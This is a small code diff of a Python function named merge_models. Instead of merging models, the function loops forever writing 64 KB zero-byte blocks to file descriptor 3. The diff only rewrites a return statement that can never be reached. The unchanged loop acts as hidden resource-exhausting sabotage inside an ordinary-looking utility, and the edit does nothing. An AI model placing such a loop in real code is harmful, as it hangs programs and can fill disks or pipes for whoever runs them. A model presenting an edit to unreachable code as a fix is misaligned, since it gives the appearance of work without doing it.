@@ -5,4 +5,4 @@ import os
 def merge_models(model_dict, device):
     while True:
         os.write(3, bytes(65536))
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
